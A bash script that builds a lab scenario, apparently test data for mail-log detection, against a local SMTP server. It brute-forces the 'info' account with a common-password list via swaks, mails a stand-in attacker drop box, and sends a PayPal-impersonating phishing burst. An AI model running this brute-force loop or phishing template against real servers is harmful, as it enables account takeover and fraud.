#!/usr/bin/env bash
# make-dictionary-attack.sh [--starttls] — samples/dictionary-attack (or -starttls).
#
# Story: night of 2026-11-16/17 (UTC). From 02:10 an outside address, 127.0.0.200 (EHLO "User"),
# runs a password list against the role account info@acme.example: four parallel sessions, one
# AUTH LOGIN per session, a new password every time, about 40 tries a minute. After 78 failures
# the password "info" (the user name) works. Ten minutes later a second outside address,
# 127.0.0.201, logs in as info with that password and sends a spam burst: 40 messages, one subject,
# header From a fake PayPal address (not the account), 6-9 Bcc recipients each across ~50 domains,
# a sixth of them rejected at RCPT (dead domains). The attacker's first move after the password
# works is a test message to its own drop box. Normal traffic: dave sends from home, a partner's server
# delivers inbound mail without AUTH (to a local user: no relay), alice's phone syncs.
# With --starttls every client uses the STARTTLS-only port 2587.
source "$(dirname "$0")/common.sh"

TLS=()
SCENARIO=dictionary-attack
if [[ ${1:-} == --starttls ]]; then TLS=(--tls); SCENARIO=dictionary-attack-starttls; fi

write_company_users "$WORK/users.txt"
# The server's own RCPT-time policy: unknown (dead) domains and a policy block. Spam lists are full
# of dead domains, so a part of the burst's recipients is rejected.
{
  echo "rejected.example 550 5.7.1 Recipient rejected by local policy"
  for d in oldmail-isp defunct-mail expired-domain nxdomain-mail gone-webmail closedbox deadpost \
    lapsed-mail; do
    echo "$d.example 550 5.1.2 Domain not found"
  done
} >"$WORK/recipient-access"
start_lab main 2525 2587 --users "$WORK/users.txt" --domain "$DOMAIN" --auth-verbose-passwords sha1:8 \
  --recipient-access "$WORK/recipient-access"
PORT=$main_SMTP_PORT
[[ ${#TLS[@]} -gt 0 ]] && PORT=$main_SUBMISSION_PORT
start_capture "$main_SMTP_PORT" "$main_SUBMISSION_PORT"

# The attacker's list (the last one is the account's weak password, the user name).
WORDS=(123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon 123123
  baseball abc123 football monkey letmein 696969 shadow master 666666 qwertyuiop 123321 mustang
  1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 000000 qazwsx 123qwe killer trustno1
  jordan jennifer zxcvbnm asdfgh hunter buster soccer harley batman andrew tigger sunshine
  iloveyou 2000 charlie robert thomas hockey ranger daniel starwars klaster 112233 george computer
  michelle jessica pepper 1111 zxcvbn 555555 11111111 131313 freedom 777777 pass maggie 159753
  access info2024 Info123 info1 welcome1 info)

T0=$(date -u -d '2026-11-17 02:10:00' +%s)
RANDOM=1117 # fixed seed: the same recipients every run
attempt() { # PASSWORD
  swaks --server 127.0.0.1 --port "$PORT" --local-interface 127.0.0.200 --helo User "${TLS[@]}" \
    --auth LOGIN --auth-user info --auth-password "$1" --quit-after AUTH >>"$WORK/swaks.out" 2>&1
}
# When the password works, the attacker proves it by mailing itself (a common first move).
validate() {
  MAILER="" send_as 127.0.0.200 User "$PORT" info info@$DOMAIN "valid-7731@drop-box.example" \
    "ok 127.0.0.1 info" "${TLS[@]}"
}

# Normal traffic before the attack.
step_at $((T0 - 300))
MAILER="Mozilla Thunderbird 128.4.2" send_as 127.0.0.34 dave-pc "$PORT" dave dave@$DOMAIN \
  "judy@$DOMAIN" "Backup finished" "${TLS[@]}"
step_at $((T0 - 200))
send_as 127.0.0.150 mx1.partner-two.example "$main_SMTP_PORT" "" news@partner-two.example \
  "alice@$DOMAIN" "Partner update November"

# The dictionary attack: 4 sessions at a time, one step every 6 simulated seconds.
n=${#WORDS[@]}
for ((i = 0; i < n; i += 4)); do
  step_at $((T0 + (i / 4) * 6))
  pids=()
  for ((j = i; j < i + 4 && j < n; j++)); do
    if ((j == n - 1)); then validate & else attempt "${WORDS[j]}" & fi
    pids+=($!)
  done
  wait "${pids[@]}"
done

step_at $((T0 + 400))
MAILER="iPhone Mail (22B91)" send_as 127.0.0.36 "[10.71.3.9]" "$PORT" alice alice@$DOMAIN \
  "dave@$DOMAIN" "Re: Backup finished" "${TLS[@]}"

# The spam burst from 127.0.0.201 with the stolen password: one message every 10 s.
DOMAINS=(mailbox-one.example webpost-mail.example northmail.example quickinbox.example
  freemail-de.example postbox-uk.example mailhub-fr.example inboxly.example sendnet.example
  greenmail-it.example postal-es.example brightmail.example zmail-pl.example correo-mx.example
  mailcity.example hotpost.example netbox-br.example webmailer.example starpost.example
  mymail-nl.example skymail.example coolinbox.example fastmail-se.example mailzone.example
  post-at.example mailbay.example bluepost.example redmail-ru.example yoursmail.example
  pigeon-post.example mailstream.example courier-ca.example postnet-au.example
  letterbox.example emailpark.example inbox-jp.example mailnest.example postman-in.example
  quickpost.example sunmail.example webinbox.example dotmail.example mailpoint.example
  gomail.example rejected.example oldmail-isp.example defunct-mail.example expired-domain.example
  nxdomain-mail.example gone-webmail.example closedbox.example deadpost.example lapsed-mail.example)
FIRST=(john maria li anna ahmed olga peter sofia carlos emma ivan yuki lucas mia noah chloe)
T1=$((T0 + 1000))
for ((m = 0; m < 40; m++)); do
  step_at $((T1 + m * 10))
  rcpts=""
  k=$((6 + RANDOM % 4))
  for ((r = 0; r < k; r++)); do
    rcpts+="${rcpts:+,}${FIRST[RANDOM % ${#FIRST[@]}]}.$((RANDOM % 900 + 100))@${DOMAINS[RANDOM % ${#DOMAINS[@]}]}"
  done
  MAILER="PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)" \
    HFROM='"PayPal Service" <service@secure-paypal-account.example>' \
    HTO='undisclosed-recipients:;' send_as 127.0.0.201 "[127.0.0.201]" "$PORT" info \
    info@$DOMAIN "$rcpts" "Your account has been limited - verify now" "${TLS[@]}"
done

step_at $((T1 + 500))
MAILER="Mozilla Thunderbird 128.4.2" send_as 127.0.0.34 dave-pc "$PORT" dave dave@$DOMAIN \
  "ops@supplier-one.example" "Delivery schedule" "${TLS[@]}"

finish "$SCENARIO" main
